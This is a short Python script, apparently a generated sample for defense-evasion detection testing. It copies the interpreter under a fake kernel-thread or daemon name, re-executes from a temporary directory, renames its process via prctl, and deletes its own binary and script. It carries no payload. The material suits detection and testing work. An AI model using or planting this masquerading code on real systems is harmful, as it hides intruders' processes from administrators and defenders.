#!/usr/bin/python3
# family: defense-evasion
# actors: *
"""A masquerading implant: copies the interpreter under a kernel-thread-like name in $TMPDIR, re-executes
itself from there, renames its comm with prctl(PR_SET_NAME), deletes its own binary and script."""
import ctypes, os, random, shutil, sys, time
rng = random.Random(int(os.environ["PG_SEED"]))
if len(sys.argv) == 1:
    name = rng.choice(["kworker", "kswapd0", "ksoftirqd", ".X11-unix", "dbus-daemon"])
    exe = os.path.join(os.environ["TMPDIR"], name)
    shutil.copy(sys.executable, exe)
    me = os.path.join(os.environ["TMPDIR"], "." + str(rng.randint(0, 99999)))
    shutil.copy(__file__, me)
    os.execv(exe, [f"[{name}/{rng.randint(0, 3)}:{rng.randint(0, 9)}]", me, "stage2"])
libc = ctypes.CDLL(None, use_errno=True)
fake = rng.choice([b"kworker/0:1", b"systemd-journal", b"sshd", b"cron"])
libc.prctl(15, ctypes.c_char_p(fake), 0, 0, 0)  # PR_SET_NAME
os.unlink(os.readlink("/proc/self/exe"))
os.unlink(sys.argv[0])
time.sleep(rng.uniform(0.05, 0.5))
